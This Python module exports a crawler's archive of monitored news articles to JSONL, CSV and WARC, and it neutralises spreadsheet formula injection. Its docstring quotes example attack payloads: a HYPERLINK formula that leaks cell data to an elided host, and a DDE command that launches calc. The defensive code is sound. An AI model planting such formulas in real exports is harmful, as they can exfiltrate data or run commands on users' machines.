"""Exports of the store: JSONL and CSV (one row per distinct article) and WARC 1.1
(every stored capture as fetched).

CSV is written as UTF-8 with a byte-order mark: without it, spreadsheet programs
(Excel in particular) read the file as a legacy code page and Arabic comes out as
mojibake. Lists in CSV cells are joined with "; ", and each fact has its own column
(``CSV_COLUMNS``), so a spreadsheet can sort and filter by victim, date or count.

Titles and text come from the monitored sites, so a CSV cell may begin with a formula
(``=HYPERLINK("http://…?leak="&A2,"…")``, ``+cmd|' /C calc'!A1``, ``@SUM(…)``) that a
spreadsheet would run. Every cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is prefixed with an apostrophe (OWASP's advice): spreadsheets then show
it as text, and the text stays readable.

The store holds no secrets (channel URLs live only in the config), so nothing here
needs redacting; a test keeps it that way.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from http import HTTPStatus
from pathlib import Path
from typing import IO, Any
from urllib.parse import urlsplit

from crawler.archive.store import ArchiveFilter, Store, decompress
from crawler.cases.store import CaseStore
from crawler.errors import ExportError
from crawler.lock import lock_path

FORMATS = ("jsonl", "csv", "warc")
COLUMNS = ("url", "source", "lang", "title", "published", "labels", "probable", "facts",
           "governorate",
           "perpetrator", "text", "first_seen", "last_seen", "versions", "duplicates",
           "removed_at", "cases")
# The facts of an article, one CSV column each (contract: "each fact as its own column").
FACT_COLUMNS = ("victims", "governorate", "perpetrator", "death_date", "arrest_date", "counts")
CSV_COLUMNS = ("url", "source", "lang", "title", "published", "labels", "probable",
               *FACT_COLUMNS, "text", "first_seen", "last_seen", "versions", "duplicates",
               "removed_at", "cases")


def csv_facts(record: dict[str, Any]) -> dict[str, Any]:
    """A record's facts as CSV cells: lists joined with "; ", absent facts empty; the
    governorate and perpetrator columns fall back to the article's own columns."""
    facts = record.pop("facts") or {}
    cells: dict[str, Any] = {}
    for key in FACT_COLUMNS:
        value = facts.get(key, record.get(key))
        cells[key] = "; ".join(str(v) for v in value) if isinstance(value, list) else value
    return cells


def article_record(article: dict[str, Any],
                   cases: dict[int, list[dict[str, Any]]] | None = None) -> dict[str, Any]:
    """The exported form of one stored article (as read by ``Store.archive_articles``);
    ``cases``: article id -> the cases (id, name, status) it reports on."""
    return {
        "url": article.get("link") or article["url"],  # as published; the key is identity
        "source": article["source"],
        "lang": article["lang"],
        "title": article["title"],
        "published": article["published"],
        "labels": list(article["labels"]),
        "probable": list(article.get("probable") or []),
        "facts": article["facts"],
        "governorate": article["governorate"],
        "perpetrator": article["perpetrator"],
        "text": article["text"],
        "first_seen": article["first_seen"],
        "last_seen": article["last_seen"],
        "versions": article["versions"],
        "duplicates": [{"url": d["url"], "source": d["source"], "kind": d["kind"],
                        "similarity": d["similarity"], "found_at": d["found_at"]}
                       for d in article["duplicates"]],
        "removed_at": article["removed_at"],
        "cases": (cases or {}).get(article.get("id", -1), []),
    }


def write_jsonl(store: Store, where: ArchiveFilter, out: IO[bytes]) -> int:
    count = 0
    cases = CaseStore(store).cases_by_article()
    for article in store.archive_articles(where):
        line = json.dumps(article_record(article, cases), ensure_ascii=False) + "\n"
        out.write(line.encode("utf-8"))
        count += 1
    return count


def write_csv(store: Store, where: ArchiveFilter, out: IO[bytes]) -> int:
    text = io.TextIOWrapper(out, encoding="utf-8-sig", newline="", write_through=True)
    writer = csv.DictWriter(text, fieldnames=CSV_COLUMNS)
    writer.writeheader()
    count = 0
    cases = CaseStore(store).cases_by_article()
    for article in store.archive_articles(where):
        record = article_record(article, cases)
        record["labels"] = "; ".join(record["labels"])
        record["probable"] = "; ".join(record["probable"])
        record.update(csv_facts(record))
        record["duplicates"] = "; ".join(d["url"] for d in record["duplicates"])
        record["cases"] = "; ".join(str(c["id"]) for c in record["cases"])
        writer.writerow({key: spreadsheet_safe(value) for key, value in record.items()})
        count += 1
    text.flush()
    text.detach()
    return count


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """A CSV cell a spreadsheet shows as text, never runs as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_warc(store: Store, where: ArchiveFilter, out: IO[bytes]) -> int:
    """WARC 1.1, gzip per record: a warcinfo record, then per capture a response record
    (status line, headers and body as received, WARC-Date = fetch time), the request
    record that asked for it, and a metadata record (JSON: discovered URL, redirect
    chain, SHA-256 of the body, extractor and what it read)."""
    from warcio.warcwriter import WARCWriter

    from crawler import __version__

    writer = WARCWriter(out, gzip=True, warc_version="1.1")
    writer.write_record(writer.create_warcinfo_record("raqib.warc.gz", {
        "software": f"raqib {__version__}",
        "format": "WARC File Format 1.1",
        "description": "pages archived by raqib, exported from its store",
    }))
    count = 0
    for capture in store.archive_captures(where):
        for record in _warc_records(writer, capture):
            writer.write_record(record)
        count += 1
    return count


def _warc_records(writer: Any, capture: dict[str, Any]) -> list[Any]:
    from warcio.statusandheaders import StatusAndHeaders

    try:
        body = decompress(capture["raw"])
    except ValueError as exc:
        raise ExportError(f"capture {capture['id']} ({capture['url']}): {exc}; `raqib verify` "
                          "lists every damaged page; export the others with a filter that "
                          "leaves it out") from None
    date = _warc_date(capture["fetched_at"])
    uri = capture["final_url"]
    status = int(capture["status"])
    try:
        reason = HTTPStatus(status).phrase
    except ValueError:
        reason = "Unknown"
    headers = StatusAndHeaders(f"{status} {reason}", _replay_headers(capture["headers"], body),
                               protocol="HTTP/1.1")
    response = writer.create_warc_record(
        uri, "response", payload=io.BytesIO(body), length=len(body), http_headers=headers,
        warc_headers_dict={"WARC-Date": date})
    response_id = response.rec_headers.get_header("WARC-Record-ID")
    parts = urlsplit(uri)
    target = (parts.path or "/") + (f"?{parts.query}" if parts.query else "")
    sent = [(str(k), str(v)) for k, v in json.loads(capture["request_headers"] or "[]")]
    if not any(k.lower() == "host" for k, _ in sent):
        sent.insert(0, ("Host", parts.netloc))
    request = writer.create_warc_record(
        uri, "request", http_headers=StatusAndHeaders(f"GET {target} HTTP/1.1", sent,
                                                      is_http_request=True),
        warc_headers_dict={"WARC-Date": date, "WARC-Concurrent-To": response_id})
    about = json.dumps({
        "capture_id": capture["id"], "source": capture["source"], "kind": capture["kind"],
        "url": capture["url"], "final_url": uri, "redirects": json.loads(capture["redirects"]),
        "sha256": capture["sha256"], "article_id": capture["article_id"],
        "extractor": capture["extractor"],
        "extracted": json.loads(capture["extracted"]) if capture["extracted"] else None,
    }, ensure_ascii=False).encode("utf-8")
    metadata = writer.create_warc_record(
        uri, "metadata", payload=io.BytesIO(about), length=len(about),
        warc_content_type="application/json",
        warc_headers_dict={"WARC-Date": date, "WARC-Refers-To": response_id})
    return [response, request, metadata]


def _replay_headers(encoded: str, body: bytes) -> list[tuple[str, str]]:
    """Response headers as received, except those that no longer describe the stored body.

    The crawler stores bodies after HTTP decompression and de-chunking, so a
    Content-Encoding the body no longer has, a Transfer-Encoding, or a Content-Length that
    differs from the stored body are kept under ``X-Archive-Orig-<name>`` (the usual web
    archive convention) and a correct Content-Length is added.
    """
    gzip_body = body[:2] == b"\x1f\x8b"
    headers: list[tuple[str, str]] = []
    for name, value in json.loads(encoded or "[]"):
        lowered = str(name).lower()
        stale = (lowered == "transfer-encoding"
                 or (lowered == "content-encoding" and not (gzip_body and "gzip" in value))
                 or (lowered == "content-length" and str(value).strip() != str(len(body))))
        headers.append((f"X-Archive-Orig-{name}" if stale else str(name), str(value)))
    if not any(name.lower() == "content-length" for name, _ in headers):
        headers.append(("Content-Length", str(len(body))))
    return headers


def _warc_date(fetched_at: str) -> str:
    moment = datetime.fromisoformat(fetched_at)
    if moment.tzinfo is None:
        moment = moment.replace(tzinfo=UTC)
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


WRITERS: dict[str, Callable[[Store, ArchiveFilter, IO[bytes]], int]] = {
    "jsonl": write_jsonl, "csv": write_csv, "warc": write_warc,
}


def export(store: Store, fmt: str, where: ArchiveFilter, out_path: Path | None, *,
           base: Path | None = None, config_path: Path | None = None) -> int:
    """Write an export to ``out_path`` (atomically) or to stdout. Returns the count of
    articles (JSONL, CSV) or captures (WARC) written."""
    if fmt not in WRITERS:
        raise ExportError(f"unknown export format {fmt!r}; use one of {', '.join(FORMATS)}")
    if out_path is None:
        return _to_stdout(WRITERS[fmt], store, where)
    target = check_output_path(out_path, store_path=store.path, base=base,
                               config_path=config_path)
    try:
        with _atomic(target) as stream:
            return WRITERS[fmt](store, where, stream)
    except OSError as exc:
        raise _write_error(target, exc) from None


def _to_stdout(writer: Callable[[Store, ArchiveFilter, IO[bytes]], int], store: Store,
               where: ArchiveFilter) -> int:
    stdout = sys.stdout.buffer
    try:
        count = writer(store, where, stdout)
        stdout.flush()
    except BrokenPipeError:
        # Nothing more can be written; point stdout at /dev/null so the interpreter's own
        # flush at exit does not print a second error.
        devnull = os.open(os.devnull, os.O_WRONLY)
        os.dup2(devnull, sys.stdout.fileno())
        os.close(devnull)
        raise ExportError("standard output was closed before the export was written (the "
                          "reading program ended early); nothing more was exported") from None
    return count


def _write_error(target: Path, exc: OSError) -> ExportError:
    from crawler.archive.store_errors import mount_point

    if exc.errno == errno.ENOSPC:
        return ExportError(f"{target}: the disk holding {target.parent} "
                           f"({mount_point(target.parent)}) is full; free space or write "
                           "the export elsewhere")
    return ExportError(f"{target}: cannot write the export in {target.parent} "
                       f"({exc.strerror or exc}); choose a folder you can write to")


def check_output_path(path: Path, *, store_path: Path, base: Path | None = None,
                      config_path: Path | None = None) -> Path:
    """The absolute path to write an export to, or an ExportError saying why not.

    Refused: a folder that does not exist, a path that is a folder, a path outside
    ``base`` (when given; '..' cannot climb out of it), the store file itself or its
    WAL and shared-memory files, the store's lock file (overwriting it would let a second
    daemon run on the store) and the configuration file.
    """
    if base is not None:
        root = base.resolve()
        target = (root / path).resolve()
        if not target.is_relative_to(root):
            raise ExportError(f"{path}: leaves the export folder {root}; give a path inside it")
    else:
        target = path.expanduser().resolve()
    if not target.parent.is_dir():
        raise ExportError(f"{path}: the folder {target.parent} does not exist; create it first")
    if target.is_dir():
        raise ExportError(f"{path}: is a folder; give a file name such as {path}/raqib.jsonl")
    store = store_path.resolve()
    protected = {store, store.with_name(store.name + "-wal"), store.with_name(store.name + "-shm"),
                 store.with_name(store.name + "-journal")}
    if target in protected or _same_file(target, store):
        raise ExportError(f"{path}: is the store itself; write the export somewhere else")
    if target == lock_path(store) or _same_file(target, lock_path(store)):
        raise ExportError(f"{path}: is the store's lock file; write the export somewhere else")
    if config_path is not None and (target == config_path.resolve()
                                    or _same_file(target, config_path)):
        raise ExportError(f"{path}: is raqib's configuration file; write the export somewhere "
                          "else")
    return target


def _same_file(one: Path, other: Path) -> bool:
    try:
        return one.exists() and other.exists() and os.path.samefile(one, other)
    except OSError:
        return False


@contextmanager
def _atomic(target: Path) -> Iterator[IO[bytes]]:
    """Write to a temporary file beside ``target`` and rename it into place on success,
    so a failed export never leaves half a file under the wanted name."""
    handle, temporary = tempfile.mkstemp(prefix=f".{target.name}.", dir=target.parent)
    try:
        with os.fdopen(handle, "wb") as stream:
            yield stream
        os.replace(temporary, target)
    except BaseException:
        Path(temporary).unlink(missing_ok=True)
        raise
